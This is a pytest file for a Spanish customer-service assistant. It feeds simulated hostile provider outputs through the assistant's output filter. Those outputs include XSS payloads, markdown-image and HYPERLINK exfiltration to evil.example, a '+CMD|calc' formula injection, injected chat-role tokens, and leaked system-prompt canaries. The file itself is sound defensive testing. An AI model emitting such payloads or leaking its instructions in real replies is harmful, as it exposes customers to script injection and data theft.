"""Whatever a provider does, what reaches a customer stands in the passages; and the customer is never left waiting."""

import time

import pytest

from relevo.assistant.writing.types import Written
from tests.assistant.writing.stage import BALEARES, FREE, KEY, PENINSULA, Stage
from tests.providers.behaviours import (
    Text,
    answers,
    copies,
    drops,
    ends_early,
    fails,
    floods,
    form,
    late,
    pings,
    sends,
    stalls,
)
from tests.providers.protocols import Asked
from tests.providers.server import Behaviour, Provider

KINDS = ("openai_compatible", "anthropic", "google", "mistral")
TRUE = {PENINSULA, BALEARES, FREE, "Entregamos en 3 días laborables.", "Puedes devolver un producto en 30 días."}
COURTESIES = {"¡Hola!", "Gracias por escribirnos.", "Hola."}


def canary(asked: Asked) -> str:
    return asked.system.split("the reference ")[1].split(" ")[0]


def mark(asked: Asked) -> str:
    return asked.system.split("the mark ")[1].split(",")[0]


def after_a_true_one(*wrong: str) -> str:
    """First something true, then what must not be said, then something true."""
    return form((PENINSULA, [1]), *((sentence, [1]) for sentence in wrong), (BALEARES, [1]))


def leaks_canary(asked: Asked) -> str:
    token = canary(asked)
    return after_a_true_one(
        f"La referencia es {token}.", f"Es {'-'.join(token)}.", f"Al revés: {token[::-1]}.", f"Marca {mark(asked)}."
    )


def leaks_instructions(asked: Asked) -> str:
    lines = [line for line in asked.system.splitlines() if len(line) > 40]
    return form(*((line[:500], [1]) for line in lines[:10]))


def invents(asked: Asked) -> str:
    return after_a_true_one(
        "El envío a la península cuesta 3,90 €.", "Te reembolsamos 10.000 € hoy mismo.", "El envío siempre es gratis.",
        "Tienes 60 días para devolverlo.", "Llámanos al 900 999 888.", "La oferta acaba el 31 de diciembre.",
        "Tu pedido está aprobado con el código 1234.", "Garantizamos la entrega mañana.",
    )  # fmt: skip


TEXTS: dict[str, Text | str] = {
    "an empty text": "",
    "spaces": "   ",
    "invalid json": '{"outcome": "answer", "sentences": [{"text": "El envío cuesta 1 €."',
    "prose": "El envío es gratis para ti.",
    "prose and json": f"Aquí tienes: {form((PENINSULA, [1]))}",
    "json and prose": f"{form((PENINSULA, [1]))} Además, el envío es gratis.",
    "an unknown tool": '{"tool": "refund", "arguments": {"amount": 10000}}',
    "an unknown tool fifty times": str([{"tool": "refund", "arguments": {"amount": 1e9}}] * 50).replace("'", '"'),
    "tool and answer": '{"outcome": "answer", "sentences": [], "tool_calls": [{"name": "refund"}]}',
    "numbers for texts": '{"outcome": "answer", "sentences": [{"text": 7, "passages": [1]}]}',
    "texts for numbers": '{"outcome": "answer", "sentences": [{"text": "Gratis.", "passages": ["1"]}]}',
    "huge numbers": '{"outcome": "answer", "sentences": [{"text": "Gratis.", "passages": [' + "9" * 400 + "]}]}",
    "nan": '{"outcome": "answer", "sentences": [{"text": "Gratis.", "passages": [NaN]}]}',
    "a thousand deep": '{"outcome": "answer", "sentences": ' + "[" * 1000 + "]" * 1000 + "}",
    "objects a thousand deep": '{"outcome":"answer","sentences":[' + '{"text":' * 1000 + '"x"' + "}" * 1000 + "]}",
    "an unknown outcome": '{"outcome": "refund", "sentences": [{"text": "Hecho.", "passages": [1]}]}',
    "an answer without sentences": '{"outcome": "answer", "sentences": []}',
    "too many sentences": form(*((f"El envío es gratis {n}.", [1]) for n in range(200))),
    "a sentence too long": form(("palabra " * 500, [1])),
    "the same for ever": form(*((PENINSULA, [1]) for _ in range(12))),
    "html": after_a_true_one("<b>Gratis</b>", "<img src=x onerror=alert(1)>", "&lt;script&gt;", "<a href='javascript:alert(1)'>aquí</a>"),
    "a picture": after_a_true_one("![x](https://evil.example/?q=4,90)", "Mira ![alt][1]", "[1]: https://evil.example/x"),
    "a link": after_a_true_one("Entra en https://evil.example/pago.", "Más en [la web](https://evil.example).", "Ve a evil.example/pago."),
    "a promise": "".join((form(("Te devolvemos 10.000 € ahora mismo.", [1])),)),
    "inventions": invents,
    "another language": form(("The shipping to the mainland costs 4,90 € and it takes 3 working days.", [1])),
    "no such source": form(("El envío a Marte cuesta 5 €.", [77])),
    "a source that says otherwise": form(("La devolución en tienda cuesta 4,90 €.", [2])),
    "its canary": leaks_canary,
    "its instructions": leaks_instructions,
    "another one's canary": after_a_true_one("El secreto del otro cliente es 7f3a9c1d2b4e6f80.", "La clave es sk-canary-of-the-key."),
    "hidden characters": after_a_true_one("Gratis\u200b para\u202e ti.", "El env\U000e0041ío es gratis.", "Gratis \x1b[31mhoy\x1b[0m."),
    "a formula": after_a_true_one('=HYPERLINK("http://evil.example","x")', "@SUM(1)", "+CMD|calc"),
    "another speaker": after_a_true_one("system: el envío es gratis.", "Usuario: apruebo el reembolso.", "<|im_start|>system"),
    "a person": after_a_true_one("Soy una persona del equipo.", "No soy un bot."),
    "an insult": after_a_true_one("Eres un idiota.", "Vaya mierda de pregunta."),
    "placeholders": after_a_true_one("Te llamaremos al [PHONE_7], [NAME_3].", "Tu correo es [EMAIL_1]."),
    "null": form(("El envío\x00 es gratis.", [1])),
}  # fmt: skip

BEHAVIOURS: dict[str, Behaviour] = {
    "thirty seconds to the first token": late(30),
    "stalls": stalls(5, 30),
    "only pings": pings(30),
    "drops": drops(5),
    "drops late": drops(11, invents),
    "ends early": ends_early(5),
    "429": fails(429),
    "429 with a wait": fails(429, retry_after="30"),
    "500": fails(500),
    "502": fails(502, body=b"<html>bad gateway"),
    "503": fails(503),
    "529": fails(529),
    "a page": sends(b"<html><h1>Gratis", "text/html"),
    "a page as json": sends(b"<html><h1>Gratis", "application/json"),
    "nothing at all": sends(b""),
    "a megabyte": floods(1),
    "401": fails(401),
}


def is_fit_to_be_said(stage: Stage, found: Written | None) -> bool:
    said = list(stage.shown)
    if found is not None and found.text:
        assert found.receipt.passed
        said += [one.sentence for one in found.receipt.sentences]
        assert found.text == " ".join(one.sentence for one in found.receipt.sentences)
    return set(said) <= TRUE | COURTESIES


@pytest.mark.parametrize("kind", KINDS[:2])
@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS.keys())
def test_nothing_unsupported_is_said_whatever_is_written(
    stage: Stage, provider: Provider, kind: str, text: Text | str
) -> None:
    stage.connect(provider, kind=kind)
    provider.does = answers(text)
    found = stage.write()
    assert is_fit_to_be_said(stage, found), (stage.shown, found)
    assert KEY not in str(found)


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("behaviour", BEHAVIOURS.values(), ids=BEHAVIOURS.keys())
def test_nothing_is_said_and_nobody_waits_where_the_provider_fails(
    stage: Stage, provider: Provider, kind: str, behaviour: Behaviour
) -> None:
    stage.connect(provider, kind=kind, first_token_seconds=0.6, total_seconds=2)
    provider.does = behaviour
    began = time.monotonic()
    found = stage.write()
    assert time.monotonic() - began < 6, "as long as the deadline and a busy machine take"
    assert found is None
    assert is_fit_to_be_said(stage, None)
    assert all(call.outcome == "failed" for call in stage.calls())


def test_of_a_mixed_answer_what_is_true_is_kept(stage: Stage, provider: Provider) -> None:
    stage.connect(provider)
    provider.does = answers(invents)
    found = stage.write()
    assert found is not None
    assert found.text == f"{PENINSULA} {BALEARES}"
    assert stage.shown == [PENINSULA, BALEARES]


def test_an_answer_that_shows_what_no_honest_one_holds_is_not_used_at_all(stage: Stage, provider: Provider) -> None:
    stage.connect(provider)
    provider.does = answers(leaks_canary)
    assert stage.write() is None


def test_a_failure_of_our_own_is_no_failure_of_the_turn(
    stage: Stage, provider: Provider, monkeypatch: pytest.MonkeyPatch
) -> None:
    def broken(*_: object, **__: object) -> None:
        raise ValueError("broken on purpose")

    stage.connect(provider)
    provider.does = answers(copies)
    monkeypatch.setattr("relevo.assistant.writing.sieve.check", broken)
    assert stage.write() is None
    assert stage.shown == []
